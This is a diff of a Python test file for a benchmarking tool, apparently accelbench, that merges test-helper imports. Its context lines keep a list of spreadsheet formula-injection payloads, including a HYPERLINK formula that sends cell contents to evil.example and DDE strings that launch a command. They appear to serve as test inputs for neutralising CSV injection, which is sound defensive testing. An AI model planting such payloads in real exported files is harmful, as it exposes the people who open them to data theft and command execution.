@@ -13,8 +13,7 @@ from accelbench.engine.config.spec import spec_from_dict
 from accelbench.engine.core.summary import RunSummary
 from accelbench.engine.logs.importer import import_file
 from accelbench.engine.store.compare import compare
-from tests.conftest import FIXTURES, accelbench
-from tests.helpers import parse_markdown
+from tests.helpers import FIXTURES, accelbench, parse_markdown
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
